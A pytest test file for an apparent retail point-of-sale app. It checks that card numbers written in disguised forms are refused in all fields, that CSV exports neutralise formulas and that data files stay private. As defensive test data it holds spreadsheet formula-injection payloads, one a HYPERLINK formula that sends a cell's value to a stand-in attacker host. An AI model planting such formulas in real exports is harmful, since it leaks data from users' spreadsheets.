"""Card numbers are never stored, in any field of any service, however they are written: each
service refuses the text naming the field, and the catalogue importer reports it and stores none."""

from __future__ import annotations

import csv
import io
import logging
import os
import stat
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, or_, select

from posassist.bootstrap import build_app, current_store
from posassist.config import resolve
from posassist.db import backup
from posassist.db.session import Database
from posassist.db.tables.base import utcnow
from posassist.db.tables.catalogue import Product, Variant
from posassist.db.tables.customers import Customer, Draft
from posassist.errors import InvalidInput
from posassist.services import (
    approvals,
    auth,
    catalogue_sync,
    csv_export,
    customer_records,
    dashboard,
    followups,
    goodwill,
    notes,
    policy_admin,
    returns,
    staff,
)
from posassist.services.catalogue_sync import Options
from posassist.services.demo import load_demo
from posassist.services.demo.stories import STAFF
from posassist.services.returns_dto import DraftLine
from tests.signin import admin, manager

ALEX, SAM = STAFF[0], STAFF[2]

# the ways a card number slipped through before: each is 4111 1111 1111 1111 or 5555 5555 5555 4444
WRITTEN = [
    "4111  1111  1111  1111",
    "4111.1111.1111.1111",
    "4111/1111/1111/1111",
    "4111\u20131111\u20131111\u20131111",
    "\uff14\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11",
    "\u0664\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661\u0661",
    "4111\u200b1111\u200b1111\u200b1111",
    "5555\u00a05555\u00a05555\u00a04444",
    "5555\n5555\n5555\n4444",
]


def _refused(call, name: str) -> None:  # type: ignore[no-untyped-def]
    for card in WRITTEN:
        with pytest.raises(InvalidInput, match="looks like a payment card number") as caught:
            call(card)
        assert caught.value.field == name, (card, caught.value.field)
        assert "keep at most the last four digits" in str(caught.value)


def _cid(db: Database, name: str) -> int:
    with db.read() as s:
        return s.execute(select(Customer.id).where(Customer.full_name == name)).scalar_one()


def test_customer_fields_refuse_card_numbers(demo_db: Database) -> None:
    alex = auth.sign_in(demo_db, ALEX.code, ALEX.pin)
    with demo_db.read() as s:
        before = s.execute(select(func.count()).select_from(Customer)).scalar_one()
    _refused(lambda c: customer_records.create(demo_db, name=f"Jo {c}", phone="705 555 0199", staff=alex), "name")
    _refused(lambda c: customer_records.create(demo_db, name="Jo", phone=c, staff=alex), "phone")
    _refused(lambda c: customer_records.create(demo_db, name="Jo", card=c, staff=alex), "card")
    _refused(
        lambda c: customer_records.create(demo_db, name="Jo", preferred_name=c, phone="705 555 0199", staff=alex),
        "preferred_name",
    )
    nina = _cid(demo_db, "Nina Patel")
    _refused(
        lambda c: customer_records.add_alert(
            demo_db, nina, kind="other", severity="info", text=f"pays {c}", staff=alex
        ),
        "text",
    )
    with demo_db.read() as s:
        assert s.execute(select(func.count()).select_from(Customer)).scalar_one() == before
    # a loyalty card and a phone number are not payment cards
    assert customer_records.create(demo_db, name="Jo Okafor", phone="+1 705 555 0199", card="LC-300001", staff=alex)


def test_follow_ups_goodwill_approvals_policy_and_staff_refuse_card_numbers(demo_db: Database) -> None:
    alex = auth.sign_in(demo_db, ALEX.code, ALEX.pin)
    nina = _cid(demo_db, "Nina Patel")
    _refused(
        lambda c: followups.create(
            demo_db,
            customer_id=nina,
            owner_id=alex.id,
            text=f"call back about {c}",
            due_at=utcnow() + timedelta(days=1),
            by=alex,
        ),
        "text",
    )
    _refused(lambda c: goodwill.new_request("gift", 500, "CAD", f"Flowers; she paid with {c}", (nina,)), "story")
    _refused(
        lambda c: approvals.decide(
            demo_db, 1, approver_code=SAM.code, secret=SAM.pin, approve=True, reason_code="medical", note=f"ok {c}"
        ),
        "note",
    )
    rules = policy_admin.in_force(demo_db).rules
    _refused(lambda c: policy_admin.save(demo_db, rules, staff=admin(demo_db), note=f"see {c}"), "note")
    _refused(
        lambda c: staff.add(demo_db, code="X1", name=f"Temp {c}", role="associate", pin="4821", actor=manager(demo_db)),
        "name",
    )


def test_notes_ratings_and_note_drafts_refuse_card_numbers(demo_db: Database) -> None:
    alex = auth.sign_in(demo_db, ALEX.code, ALEX.pin)
    nina = _cid(demo_db, "Nina Patel")

    def add(body: str) -> notes.NoteView:
        return notes.add(
            demo_db, customer_id=nina, staff=alex, store_id=None, channel="phone", topic="complaint", body=body
        )

    _refused(lambda c: add(f"she read me {c}"), "note")
    note = add("Asked about the charge; card ending 4444.")
    _refused(lambda c: notes.finish(demo_db, note.id, staff=alex, csat=5, comment=f"thanks {c}"), "comment")
    _refused(lambda c: notes.save_draft(demo_db, alex, nina, f"half typed {c}"), "note")
    with demo_db.read() as s:
        assert s.execute(select(func.count()).select_from(Draft).where(Draft.kind == "note")).scalar_one() == 0
    notes.save_draft(demo_db, alex, nina, "half typed, card ending 4444")
    assert notes.load_draft(demo_db, alex, nina) == "half typed, card ending 4444"


def test_return_line_notes_and_return_drafts_refuse_card_numbers(demo_db: Database) -> None:
    alex = auth.sign_in(demo_db, ALEX.code, ALEX.pin)
    store = current_store(demo_db, "DT")
    assert store is not None
    sale = returns.find_sale(demo_db, "W-2026-4101")

    def draft(note: str):  # type: ignore[no-untyped-def]
        return returns.new_draft(store.id, alex.id, sale_id=sale.id, lines=(DraftLine(sale.lines[0].id, 1, note=note),))

    with demo_db.read() as s:
        drafts_before = s.execute(select(func.count()).select_from(Draft).where(Draft.kind == "return")).scalar_one()
    _refused(lambda c: returns.save_draft(demo_db, draft(f"refund to {c}"), alex), "note")
    _refused(lambda c: returns.evaluate(demo_db, draft(f"refund to {c}"), alex), "note")
    with demo_db.read() as s:
        drafts_after = s.execute(select(func.count()).select_from(Draft).where(Draft.kind == "return")).scalar_one()
    assert drafts_after == drafts_before
    never_sold = returns.new_draft(
        store.id,
        alex.id,
        mode="never_sold",
        lines=(DraftLine(None, 1, description=f"tyres, paid by {WRITTEN[0]}", declared_value_minor=1000),),
    )
    with pytest.raises(InvalidInput, match="card number") as caught:
        returns.evaluate(demo_db, never_sold, alex)
    assert caught.value.field == "description" and caught.value.row == 1


def test_catalogue_import_reports_card_numbers_and_stores_none(demo_db: Database, tmp_path: Path) -> None:
    src = tmp_path / "cards.csv"
    src.write_text(
        "sku,title,description,colour,price\n"
        "CARD-1,Wool Hat,Paid with 4111.1111.1111.1111 thanks,Red,10.00\n"
        "CARD-2,Scarf 5555 5555 5555 4444,Soft,Blue,12.00\n"
        "CARD-3,Gloves,Warm; SKU-12345 at $12.99 on 2024-03-15,Black,9.00\n"
        "CARD-4,Mittens,Wool,Grey,4111 1111 1111 1111\n",
        encoding="utf-8",
    )
    store = current_store(demo_db, "DT")
    opts = Options(currency="CAD", store_id=store.id if store else None, skip_invalid=True)
    plan = catalogue_sync.plan(demo_db, str(src), opts)
    found = [(p.row, p.field, p.severity) for p in plan.problems if p.code == "card_number"]
    assert found == [(1, "description", "error"), (2, "title", "error"), (4, "price", "error")], found
    shown = " ".join(f"{p.value} {p.message}" for p in plan.problems)
    assert "4111" not in shown and "5555 5555" not in shown and "1111 1111" not in shown, shown
    assert any(p.row == 4 and p.field == "price" and p.value is None for p in plan.problems)
    rep = catalogue_sync.apply(demo_db, str(src), opts, staff=manager(demo_db))
    assert rep.applied
    with demo_db.read() as s:
        stored = s.execute(
            select(func.count())
            .select_from(Product)
            .where(
                or_(
                    Product.title.like("%5555%"),
                    Product.description.like("%1111%"),
                    Product.style_code.like("%5555%"),
                )
            )
        ).scalar_one()
        assert stored == 0
        gloves = s.execute(select(Variant).where(Variant.sku == "CARD-3")).scalar_one()
        assert gloves.price_minor == 900


# -- CSV exports neutralise formulas --------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tx", "\r=1"]


def test_csv_cells_that_would_start_a_formula_are_written_as_text() -> None:
    for cell in FORMULAS:
        assert csv_export.safe_cell(cell) == "'" + cell
    assert [csv_export.safe_cell(v) for v in ("Wool hat", "", None, -5, 12.5, "a=b")] == [
        "Wool hat",
        "",
        None,
        -5,
        12.5,
        "a=b",
    ]


def test_the_import_problems_csv_neutralises_formulas(demo_db: Database, tmp_path: Path) -> None:
    src = tmp_path / "formulas.csv"
    src.write_text(
        'sku,title,price\nF-1,"=HYPERLINK(""http://evil.example"",""x"")",=1+2\nF-2,@SUM(A1),-3\n', encoding="utf-8"
    )
    store = current_store(demo_db, "DT")
    rep = catalogue_sync.plan(demo_db, str(src), Options(currency="CAD", store_id=store.id if store else None))
    assert any((p.value or "").startswith("=") for p in rep.problems)  # the file's cell, as it was
    out = tmp_path / "problems.csv"
    catalogue_sync.write_problems(rep, out)
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["row", "line", "field", "value", "severity", "code", "message"]
    cells = [c for r in rows for c in r]
    assert "'=1+2" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells


def test_the_dashboard_csv_neutralises_formulas(demo_db: Database) -> None:
    board = dashboard.build(demo_db)
    board.most_returned = [(f, 1) for f in FORMULAS] + [("Wool hat", 2)]
    rows = list(csv.reader(io.StringIO(board.csv("most_returned"))))
    assert rows[0] == ["item", "quantity"]
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS] + ["Wool hat"]


# -- files and folders are private ----------------------------------------------------------------


def _modes(root: Path) -> dict[str, int]:
    return {str(p.relative_to(root)): stat.S_IMODE(p.stat().st_mode) for p in [root, *root.rglob("*")]}


def test_the_data_dir_database_backups_and_logs_are_private(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    old_umask = os.umask(0o022)  # the usual default: files 0644, folders 0755 unless posassist says otherwise
    log = logging.getLogger("posassist")
    monkeypatch.setattr(log, "handlers", [])  # this data dir gets its own log file
    settings = resolve(data_dir=tmp_path / "data", environ={})
    app = build_app(settings)
    try:
        load_demo(app.db, variants=100, seed=7)
        log.info("a line in the log")
        taken = backup.automatic_backup(app.db.url, settings.backup_dir, "manual", 3)
        elsewhere = backup.backup(app.db.url, tmp_path / "copies" / "copy.db")
        with app.db.engine.connect() as conn:
            assert conn.exec_driver_sql("PRAGMA secure_delete").scalar() == 1
            assert conn.exec_driver_sql("PRAGMA journal_mode").scalar() == "wal"
        modes = _modes(settings.data_dir)
    finally:
        for h in log.handlers:
            h.close()
        app.close()
        os.umask(old_umask)
    assert taken is not None and "backups" in modes and "logs/posassist.log" in modes, modes
    assert {"posassist.db", "posassist.db-wal", "posassist.db-shm"} & set(modes), modes
    for name, mode in modes.items():
        want = 0o700 if (settings.data_dir / name).is_dir() else 0o600
        assert mode == want, (name, oct(mode))
    assert stat.S_IMODE(elsewhere.stat().st_mode) == 0o600
    assert stat.S_IMODE(elsewhere.parent.stat().st_mode) == 0o700  # a folder posassist made
